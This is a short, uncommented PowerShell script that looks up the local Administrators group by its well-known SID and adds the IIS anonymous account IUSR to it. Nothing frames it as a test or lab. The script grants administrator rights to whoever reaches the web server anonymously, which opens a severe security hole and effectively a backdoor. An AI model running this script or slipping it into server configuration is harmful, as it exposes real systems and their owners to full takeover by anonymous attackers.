$sid = New-Object System.Security.Principal.SecurityIdentifier 'S-1-5-32-544'
$name = $sid.Translate([System.Security.Principal.NTAccount]).Value.Split('\')[1]
Add-LocalGroupMember -Group $name -Member 'IUSR'
